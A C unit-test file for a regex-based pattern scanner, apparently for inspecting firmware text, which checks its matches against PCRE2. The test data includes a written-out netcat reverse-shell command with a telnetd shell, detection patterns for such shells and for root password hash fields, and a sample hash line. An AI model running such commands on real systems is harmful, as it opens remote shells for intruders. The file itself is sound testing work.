#include "base/pattern.h"

#define PCRE2_CODE_UNIT_WIDTH 8
#include <pcre2.h>

#include "base/effort.h"
#include "harness.h"

static const struct pattern patterns[] = {
	{ "BusyBox v(\\d+\\.\\d+(?:\\.\\d+)?)", 0 },
	{ "^root:([^:\\n]*):", PATTERN_MULTILINE },
	{ "openssl", PATTERN_CASELESS | PATTERN_ONCE },
};
enum { COUNT = sizeof patterns / sizeof *patterns };

/* A scanner over a set that has been saved and read back, as at run time. */
static struct pattern_scanner *make_scanner(struct pattern_set **set)
{
	struct arena arena;
	struct span error = SPAN_NONE;
	struct pattern_set *compiled;
	struct pattern_scanner *scanner = NULL;
	void *saved;
	size_t size;
	arena_init(&arena, 1 << 20);
	CHECK(pattern_set_compile(patterns, COUNT, &arena, &compiled, &error) == DONE);
	CHECK(pattern_set_save(compiled, &saved, &size) == DONE);
	CHECK(pattern_set_load(span_of(saved, size), patterns, COUNT, set) == DONE);
	CHECK(pattern_scanner_new(*set, &scanner) == DONE);
	pattern_set_free(compiled);
	free(saved);
	arena_done(&arena);
	return scanner;
}

TEST(finds_and_captures)
{
	struct pattern_set *set;
	struct pattern_scanner *scanner = make_scanner(&set);
	struct span text = SPAN_LITERAL("xx\nroot:$1$abc:0:0\nBusyBox v1.19.4 (2012)\nBusyBox v1.20 OpenSSL openssl");
	const struct pattern_hit *hits;
	size_t count;
	struct pattern_match match;
	CHECK(pattern_scan(scanner, text, &hits, &count) == DONE);
	REQUIRE(count == 4);
	CHECK(pattern_capture(scanner, text, &hits[0], &match));
	CHECK_TEXT(match.groups[1], "1.19.4");
	CHECK_TEXT(match.groups[0], "BusyBox v1.19.4");
	CHECK(pattern_capture(scanner, text, &hits[1], &match));
	CHECK_TEXT(match.groups[1], "1.20");
	CHECK_EQUAL(hits[2].pattern, 1);
	CHECK(pattern_capture(scanner, text, &hits[2], &match));
	CHECK_TEXT(match.groups[1], "$1$abc");
	CHECK_EQUAL(hits[3].pattern, 2);
	pattern_scanner_free(scanner);
	pattern_set_free(set);
}

TEST(scans_again_from_the_start)
{
	struct pattern_set *set;
	struct pattern_scanner *scanner = make_scanner(&set);
	const struct pattern_hit *hits;
	size_t count;
	for (int turn = 0; turn < 3; turn++) {
		CHECK(pattern_scan(scanner, SPAN_LITERAL("OPENSSL"), &hits, &count) == DONE);
		CHECK_EQUAL(count, 1);
		CHECK(pattern_scan(scanner, SPAN_LITERAL("nothing"), &hits, &count) == DONE);
		CHECK_EQUAL(count, 0);
	}
	pattern_scanner_free(scanner);
	pattern_set_free(set);
}

TEST(limits_the_hits_of_a_pattern)
{
	struct pattern_set *set;
	struct pattern_scanner *scanner = make_scanner(&set);
	const struct pattern_hit *hits;
	size_t count;
	static char text[20000 * 16];
	for (size_t i = 0; i < sizeof text; i += 16)
		memcpy(text + i, "BusyBox v1.19.4 ", 16);
	CHECK(pattern_scan(scanner, span_of(text, sizeof text), &hits, &count) == DONE);
	CHECK_EQUAL(count, PATTERN_HITS_MAX);
	CHECK_EQUAL(pattern_dropped(scanner, 0, 1), 20000 - PATTERN_HITS_MAX);
	CHECK_EQUAL(pattern_dropped(scanner, 1, 2), 0);
	CHECK(pattern_scan(scanner, span_of(text, PATTERN_HITS_MAX * 16), &hits, &count) == DONE);
	CHECK_EQUAL(count, PATTERN_HITS_MAX);
	CHECK_EQUAL(pattern_dropped(scanner, 0, COUNT), 0);
	pattern_scanner_free(scanner);
	pattern_set_free(set);
}

/* Expressions of every shape that a scan could lose: classes, choices, repetitions, anchors, delimiters that are shared. */
static const struct pattern shapes[] = {
	{ "(?:nc|ncat|netcat) ([^\\n;|&\\x00]{1,120})-e *(?:/bin/)?sh", 0 },
	{ "telnetd[^\\n;|&\\x00]{1,120}", 0 },
	{ "a[^;]{0,12}b", 0 },
	{ "a[^;]{5,12}", 0 },
	{ "a[^;]*b", 0 },
	{ "[ab]c", 0 },
	{ "\\d\\.\\d", 0 },
	{ "[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3}[^0-9.]", 0 },
	{ "\\x00(\\w{1,9})=(\\w{1,9})\\x00", 0 },
	{ "[^\\n;]{1,120}= ?secret", PATTERN_CASELESS },
	{ "^([A-Z_]{1,30})=([^\\n]{0,120})$", PATTERN_MULTILINE },
	{ "^#!", 0 },
	{ "end.?$", 0 },
	{ "\\bnc\\b", 0 },
	{ "SEC(?:RET|URE)?", PATTERN_CASELESS | PATTERN_ONCE },
	{ "word[^!]{0,5000}!", 0 },
};
enum { SHAPES = sizeof shapes / sizeof *shapes };

struct bench {
	struct arena arena;
	struct pattern_set *set;
	struct pattern_scanner *scanner;
	pcre2_code *codes[SHAPES];
	pcre2_match_data *match;
	size_t matches;
};

static bool bench_open(struct bench *bench)
{
	struct span problem = SPAN_NONE;
	*bench = (struct bench){ .match = pcre2_match_data_create(8, NULL) };
	arena_init(&bench->arena, 16 << 20);
	for (size_t i = 0; i < SHAPES; i++) {
		uint32_t options = (shapes[i].flags & PATTERN_CASELESS ? PCRE2_CASELESS : 0) |
				   (shapes[i].flags & PATTERN_MULTILINE ? PCRE2_MULTILINE : 0);
		int error;
		PCRE2_SIZE where;
		bench->codes[i] = pcre2_compile((PCRE2_SPTR)shapes[i].expression, PCRE2_ZERO_TERMINATED, options, &error,
						&where, NULL);
	}
	if (pattern_set_compile(shapes, SHAPES, &bench->arena, &bench->set, &problem) == DONE)
		return pattern_scanner_new(bench->set, &bench->scanner) == DONE;
	printf("# %.*s\n", SPAN_FORMAT(problem));
	return false;
}

static void bench_close(struct bench *bench)
{
	for (size_t i = 0; i < SHAPES; i++)
		pcre2_code_free(bench->codes[i]);
	pcre2_match_data_free(bench->match);
	pattern_scanner_free(bench->scanner);
	pattern_set_free(bench->set);
	arena_done(&bench->arena);
}

/* Holds the hits of a pattern against what PCRE2 alone matches at each byte; gives the number of these hits. */
static size_t compare(struct bench *bench, struct span text, uint32_t pattern, const struct pattern_hit *hits, size_t count)
{
	const PCRE2_SIZE *ends = pcre2_get_ovector_pointer(bench->match);
	size_t at = 0, newest = 0;
	bool wrong = false;
	for (size_t start = 0; start < text.size; start++) {
		if (pcre2_match(bench->codes[pattern], text.data, text.size, start, PCRE2_ANCHORED, bench->match, NULL) < 0 ||
		    ends[1] <= newest || (at > 0 && shapes[pattern].flags & PATTERN_ONCE))
			continue;
		struct pattern_match match;
		newest = ends[1];
		wrong = wrong || at >= count || hits[at].pattern != pattern || hits[at].start != start ||
			hits[at].end != newest || !pattern_capture(bench->scanner, text, &hits[at], &match) ||
			match.offset != start || match.groups[0].size != newest - start;
		at++;
	}
	if (wrong || (at < count && hits[at].pattern == pattern) || pattern_dropped(bench->scanner, pattern, 1) > 0)
		harness_fail(__FILE__, __LINE__, "%s: not the %zu matches that there are in %zu bytes",
			     shapes[pattern].expression, at, text.size);
	return at;
}

static void compare_all(struct bench *bench, struct span text)
{
	const struct pattern_hit *hits;
	size_t count, seen = 0;
	REQUIRE(pattern_scan(bench->scanner, text, &hits, &count) == DONE);
	for (uint32_t i = 0; i < SHAPES; i++)
		seen += compare(bench, text, i, hits + seen, count - seen);
	CHECK_EQUAL(seen, count);
	bench->matches += seen;
}

/* A line at every offset within its vector of bytes, in a row of fillings, with texts of all lengths after it. */
TEST(finds_what_pcre2_finds_wherever_it_lies)
{
	static const char line[] = "nc 192.168.1.1 4444 -e /bin/sh; telnetd -l /bin/sh\nacb ab accccccccccb end\n"
				   "NAME= secret\n1.2.3.4 11.22.333 \0a_pwd=x\0b_pwd=y\0c=d\0nc 1 -e sh nc 2 -e sh";
	static const char fillings[] = { '.', ' ', ';', 0, 'a', '\n', '1' };
	static char memory[1024] __attribute__((aligned(64)));
	struct bench bench;
	REQUIRE(bench_open(&bench));
	for (size_t filling = 0; filling < sizeof fillings; filling++)
		for (size_t offset = 0; offset < 150 && harness_failures == 0; offset++) {
			size_t aligned = offset * 7 % 64, size = offset + sizeof line - 1 + offset * 13 % 170;
			memset(memory, fillings[filling], sizeof memory);
			memcpy(memory + aligned + offset, line, sizeof line - 1);
			compare_all(&bench, span_of(memory + aligned, size));
		}
	printf("# %zu matches\n", bench.matches);
	CHECK(bench.matches > 10000);
	bench_close(&bench);
}

/* Bytes of few values at random, so that matches begin, overlap and break off everywhere. */
TEST(finds_what_pcre2_finds_in_noise)
{
	static const char alphabet[] = "ab;c.12=\n\0nc -e sh! word end secret";
	static uint8_t memory[700];
	struct bench bench;
	uint32_t random = 1;
	REQUIRE(bench_open(&bench));
	for (size_t turn = 0; turn < 1500 && harness_failures == 0; turn++) {
		size_t size = 1 + turn % sizeof memory, common = turn % 3 == 0 ? 256 : sizeof alphabet;
		for (size_t i = 0; i < size; i++) {
			random = random * 1103515245 + 12345;
			size_t value = random >> 16, index = value % common;
			memory[i] = index < sizeof alphabet ? (uint8_t)alphabet[index] : (uint8_t)(value >> 3);
		}
		compare_all(&bench, span_of(memory, size));
	}
	printf("# %zu matches\n", bench.matches);
	CHECK(bench.matches > 10000);
	bench_close(&bench);
}

TEST(finds_what_is_far_longer_than_a_line)
{
	static char text[20000];
	struct bench bench;
	REQUIRE(bench_open(&bench));
	for (size_t size = 4990; size < 5010; size++) {
		memset(text, 'x', sizeof text);
		memcpy(text + 9000, "word", 4);
		text[9000 + 4 + size] = '!';
		compare_all(&bench, span_of(text, sizeof text));
	}
	CHECK_EQUAL(bench.matches, 11);
	bench_close(&bench);
}

/* An expression that goes back without end is given up, which is told, and paid for. */
TEST(says_where_it_gave_up)
{
	static const struct pattern slow[] = { { "a(?:[ab]{1,50}[ab]{1,50}){1,50}c", 0 } };
	struct arena arena;
	struct pattern_set *set;
	struct pattern_scanner *scanner;
	struct effort effort;
	struct span error = SPAN_NONE;
	const struct pattern_hit *hits;
	size_t count;
	char text[300];
	arena_init(&arena, 16 << 20);
	memset(text, 'b', sizeof text);
	text[100] = 'a';
	REQUIRE(pattern_set_compile(slow, 1, &arena, &set, &error) == DONE);
	REQUIRE(pattern_scanner_new(set, &scanner) == DONE);
	effort_start(&effort, EFFORT_NO_LIMIT, 0);
	CHECK(pattern_scan(scanner, span_of(text, sizeof text), &hits, &count) == DONE);
	effort_stop(&effort);
	CHECK_EQUAL(count, 0);
	CHECK_EQUAL(pattern_dropped(scanner, 0, 1), 1);
	CHECK(effort_spent(&effort) > 500000);
	pattern_scanner_free(scanner);
	pattern_set_free(set);
	arena_done(&arena);
}

TEST(names_the_bad_expression)
{
	static const struct pattern bad[] = { { "good", 0 }, { "bad(", 0 } };
	struct arena arena;
	struct pattern_set *set;
	struct span error = SPAN_NONE;
	arena_init(&arena, 1 << 20);
	CHECK(pattern_set_compile(bad, 2, &arena, &set, &error) == MALFORMED);
	CHECK(span_starts_text(error, "bad("));
	arena_done(&arena);
}

TESTS(finds_and_captures, scans_again_from_the_start, limits_the_hits_of_a_pattern,
      finds_what_pcre2_finds_wherever_it_lies, finds_what_pcre2_finds_in_noise, finds_what_is_far_longer_than_a_line,
      says_where_it_gave_up, names_the_bad_expression)
